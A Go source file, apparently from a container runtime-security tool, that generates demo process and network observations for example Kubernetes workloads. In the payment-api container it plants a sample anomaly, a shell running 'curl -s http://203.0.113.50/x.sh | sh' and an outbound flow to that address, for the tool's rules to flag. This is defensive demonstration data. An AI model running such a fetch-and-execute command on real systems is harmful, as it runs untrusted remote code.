package demo

import (
	"net/netip"
	"strings"
	"time"

	"github.com/palisade-project/palisade/internal/model"
	"github.com/palisade-project/palisade/internal/observation"
	"github.com/palisade-project/palisade/internal/procrules"
)

// exampleProcesses maps image references of the example to the main
// process its containers run.
var exampleProcesses = map[string][]string{
	"ghcr.io/acme/frontend:1.4.2": {"/usr/local/bin/node", "server.js"},
	"ghcr.io/acme/checkout@sha256:3b4f1a5cc6ac9c8d1d2e7f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c": {"/app/checkout"},
	"docker.io/library/redis:7.2":               {"/usr/local/bin/redis-server", "*:6379"},
	"quay.io/acme-contractor/payment-api:3.1.0": {"/usr/lib/jvm/java-11/bin/java", "-jar", "/app/payment-api.jar"},
	"docker.io/envoyproxy/envoy:v1.31.2":        {"/usr/local/bin/envoy", "-c", "/etc/envoy/envoy.yaml"},
	"docker.io/library/postgres:16.4":           {"/usr/lib/postgresql/16/bin/postgres"},
	"quay.io/prometheus/node-exporter:v1.8.2":   {"/bin/node_exporter"},
	"docker.io/fluent/fluent-bit:3.1":           {"/fluent-bit/bin/fluent-bit"},
	"ghcr.io/acme/frontend:1.5.0-rc1":           {"/usr/local/bin/node", "server.js"},
}

// Activity returns example observations of the pods RunningPods makes, as
// two node agents would report them: each container's main process, and in
// the payment API a shell fetching a script with curl, which the built-in
// rules flag. Every answer covering the example carries Notice.
func Activity(pods []model.Object, now time.Time) *observation.View {
	rules := procrules.Builtin()
	v := &observation.View{}
	nodes := []string{"worker-1", "worker-2"}
	for i, n := range nodes {
		v.Nodes = append(v.Nodes, observation.NodeSummary{Cluster: Cluster, Node: n, Agent: "example", Collection: "polling",
			Degraded:   []string{"example data: no agent ran"},
			SentAt:     now.Add(-time.Duration(10+i) * time.Second),
			ReceivedAt: now.Add(-time.Duration(10+i) * time.Second)})
	}
	podIP := map[string]netip.Addr{}
	pid := 100
	for i, o := range pods {
		p, ok := o.(*model.Workload)
		if !ok || p.Status == nil || p.Owner == nil {
			continue
		}
		ref := model.WorkloadRef{Cluster: p.Cluster, Kind: model.Kind(p.Owner.Kind), Namespace: p.Namespace, Name: p.Owner.Name}
		if ref.Kind == model.KindReplicaSet {
			ref.Kind, ref.Name = model.KindDeployment, strings.TrimSuffix(p.Owner.Name, "-demo")
		}
		podIP[ref.Namespace+"/"+ref.Name] = netip.AddrFrom4([4]byte{10, 244, 1, byte(10 + i)})
		node := nodes[i%2]
		for _, c := range p.Template.Containers {
			cmd, ok := exampleProcesses[c.Image.String()]
			if !ok || c.Type != model.ContainerRegular {
				continue
			}
			pid++
			rec := observation.ProcessRecord{Cluster: Cluster, Node: node, Workload: ref, Pod: p.Name, Container: c.Name, Digest: imageDigest(c.Image),
				Image: c.Image.Original, Exe: cmd[0], Args: cmd, PID: pid, FirstSeen: now.Add(-6 * time.Hour), LastSeen: now.Add(-10 * time.Second),
				Running: true, Baseline: observation.BaselineIn}
			v.Processes = append(v.Processes, rec)
			if ref.Name == "payment-api" && c.Name == "api" {
				pid++
				args := []string{"/bin/sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"}
				sh := rec
				sh.Exe, sh.Args, sh.PID, sh.Baseline = "/bin/sh", args, pid, observation.BaselineAnomaly
				sh.FirstSeen = now.Add(-4 * time.Minute)
				sh.Suspicious = suspicions(rules, "/bin/sh", args)
				pid++
				curl := rec
				curl.Exe, curl.Args, curl.PID, curl.Baseline = "/usr/bin/curl", []string{"curl", "-s", "http://203.0.113.50/x.sh"}, pid, observation.BaselineAnomaly
				curl.FirstSeen, curl.LastSeen, curl.Running = now.Add(-4*time.Minute), now.Add(-4*time.Minute), false
				curl.Suspicious = suspicions(rules, "/usr/bin/curl", curl.Args)
				v.Processes = append(v.Processes, sh, curl)
			}
		}
	}
	flow := func(from, to string, port uint16) {
		fa, ta := podIP[from], podIP[to]
		if !fa.IsValid() {
			return
		}
		rec := observation.FlowRecord{Cluster: Cluster, Node: "worker-1", Proto: "tcp", Port: port, FirstSeen: now.Add(-6 * time.Hour), LastSeen: now.Add(-10 * time.Second), Count: 2000,
			From: observation.Endpoint{Workload: refOf(pods, from), Pod: podName(pods, from), Addr: netip.AddrPortFrom(fa, 40000)}}
		if ta.IsValid() {
			rec.To = observation.Endpoint{Workload: refOf(pods, to), Pod: podName(pods, to), Addr: netip.AddrPortFrom(ta, port)}
		} else {
			rec.To = observation.Endpoint{Addr: netip.MustParseAddrPort(to + ":80"), External: true}
			rec.Count, rec.FirstSeen = 1, now.Add(-4*time.Minute)
		}
		v.Flows = append(v.Flows, rec)
	}
	flow("shop/frontend", "shop/checkout", 8080)
	flow("shop/checkout", "payments/payment-api", 8443)
	flow("payments/payment-api", "payments/ledger-db", 5432)
	flow("payments/payment-api", "203.0.113.50", 80)
	return v
}

func suspicions(rules *procrules.Ruleset, exe string, args []string) []observation.Suspicion {
	var out []observation.Suspicion
	for _, f := range rules.Evaluate(procrules.Event{Exe: exe, Args: args, ImageEntrypoint: []string{"java"}, Production: true}) {
		out = append(out, observation.Suspicion{Rule: f.RuleID, Title: f.Title, Severity: string(f.Severity), Rationale: f.Rationale, Remediation: f.Remediation, Evidence: f.Evidence})
	}
	return out
}

// owned returns the example pod of the workload named "namespace/name".
func owned(pods []model.Object, key string) (*model.Workload, model.WorkloadRef) {
	ns, name, _ := strings.Cut(key, "/")
	for _, o := range pods {
		p, ok := o.(*model.Workload)
		if !ok || p.Owner == nil || p.Namespace != ns || strings.TrimSuffix(p.Owner.Name, "-demo") != name {
			continue
		}
		kind := model.Kind(p.Owner.Kind)
		if kind == model.KindReplicaSet {
			kind = model.KindDeployment
		}
		return p, model.WorkloadRef{Cluster: p.Cluster, Kind: kind, Namespace: ns, Name: name}
	}
	return nil, model.WorkloadRef{}
}

func refOf(pods []model.Object, key string) model.WorkloadRef {
	_, ref := owned(pods, key)
	return ref
}

func podName(pods []model.Object, key string) string {
	if p, _ := owned(pods, key); p != nil {
		return p.Name
	}
	return ""
}
